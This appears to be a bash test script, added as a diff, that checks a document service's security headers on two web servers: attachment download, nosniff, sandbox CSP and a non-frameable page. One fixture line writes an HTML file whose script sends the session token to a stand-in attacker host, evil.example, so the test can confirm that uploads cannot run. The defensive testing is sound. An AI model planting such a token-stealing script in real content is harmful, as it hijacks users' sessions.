@@ -1,0 +1,84 @@
+#!/usr/bin/env bash
+# Serving user content (DESIGN.md): through lighttpd AND Apache mod_fcgid,
+# every answer that carries a document's bytes (GET, HEAD, a Range's 206)
+# makes the browser download it (Content-Disposition: attachment with the
+# document's name, RFC 6266 + RFC 8187), never sniffs it, and sandboxes it
+# should it be rendered anyway.  Checked for an uploaded text/html document
+# and for a name with non-ASCII bytes, quotes, ';' and '%'.  The page that
+# holds the token runs no inline script and cannot be framed.
+[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
+here=$(cd "$(dirname "$0")" && pwd)
+. "$here/../lib/tap.sh"
+. "$here/../lib/http.sh"
+
+need_stack BINDERY_TEST_LIGHTTPD_URL BINDERY_TEST_APACHE_URL BINDERY_TEST_TOKEN
+
+work=$(mktemp -d)
+trap 'rm -rf "$work"' EXIT
+auth=(-H "Authorization: Bearer $BINDERY_TEST_TOKEN")
+want_nosniff='nosniff'
+want_csp="sandbox; default-src 'none'"
+
+# An HTML document that would steal the page's token if it ran on our origin.
+printf '<!doctype html><script>fetch("//evil.example/?t="+sessionStorage.getItem("bindery-token"))</script>\n' \
+	>"$work/evil.html"
+printf 'plain text with a name that needs care\n' >"$work/odd.txt"
+
+# safety_headers SRV WHAT CODE TYPE: the status, the type and the three
+# headers of the last req's answer (status and type ride along with the
+# headers this test is about, so every check fails without them).
+safety_headers() {
+	is "$HTTP_CODE $(header content-disposition)" "$3 $want_cd" "$1: $2: $3 with Content-Disposition"
+	is "$HTTP_CTYPE; $(header x-content-type-options)" "$4; $want_nosniff" \
+		"$1: $2: the uploaded $4 with X-Content-Type-Options"
+	is "$(header content-security-policy)" "$want_csp" "$1: $2: Content-Security-Policy"
+}
+
+# check_content SRV ID TYPE: GET, HEAD and a Range of one document.
+check_content() {
+	local srv=$1 id=$2 type=$3
+	req GET "$url/documents/$id/content"
+	safety_headers "$srv" GET 200 "$type"
+	req HEAD "$url/documents/$id/content" -I
+	safety_headers "$srv" HEAD 200 "$type"
+	req GET "$url/documents/$id/content" -H 'Range: bytes=0-4'
+	safety_headers "$srv" "Range" 206 "$type"
+}
+
+# upload SRV NAME-QUERY TYPE FILE: create a document; its id in $id, or "" after a failure.
+upload() {
+	req POST "$url/documents?name=$2" "${auth[@]}" -H "Content-Type: $3" --data-binary "@$4"
+	id=$(jfield "$HTTP_BODY" id)
+	[ "$HTTP_CODE" = 201 ] && [ -n "$id" ] && return 0
+	fail "$1: upload of $2 answered $HTTP_CODE"
+	id=
+	return 1
+}
+
+for s in "lighttpd=$BINDERY_TEST_LIGHTTPD_URL" "apache=$BINDERY_TEST_APACHE_URL"; do
+	srv=${s%%=*} url=${s#*=}
+	tag="safe-$srv-$$-$RANDOM"
+
+	if upload "$srv" "$tag.html" text/html "$work/evil.html"; then
+		want_cd="attachment; filename=\"$tag.html\"; filename*=UTF-8''$tag.html"
+		check_content "$srv html" "$id" text/html
+	fi
+
+	# r<U+00E9>sum<U+00E9> "q";%<U+65E5>.txt, percent-encoded for the query.
+	if upload "$srv" "$tag-r%C3%A9sum%C3%A9%20%22q%22%3B%25%E6%97%A5.txt" text/plain "$work/odd.txt"; then
+		want_cd="attachment; filename=\"$tag-r_sum_ _q_;__.txt\"; filename*=UTF-8''$tag-r%C3%A9sum%C3%A9%20%22q%22%3B%25%E6%97%A5.txt"
+		check_content "$srv non-ASCII" "$id" text/plain
+	fi
+
+	# The page: no inline script, not frameable; its script comes from /page.js.
+	req GET "$url/"
+	is "$HTTP_CODE $(header content-security-policy)" "200 default-src 'self'; script-src 'self'; style-src 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'" \
+		"$srv: the page's CSP allows no inline script and no framing"
+	like "$HTTP_BODY" '<script src="/page\.js"></script>' "$srv: the page loads /page.js"
+	unlike "$HTTP_BODY" '<script>' "$srv: the page has no inline script"
+	req GET "$url/page.js"
+	is "$HTTP_CODE $HTTP_CTYPE" "200 text/javascript; charset=utf-8" "$srv: /page.js is JavaScript"
+	is "$(header x-content-type-options)" nosniff "$srv: /page.js is not sniffed"
+	like "$HTTP_BODY" "sessionStorage\\.getItem\\('bindery-token'\\)" "$srv: /page.js is the page's script"
+done
+done_testing
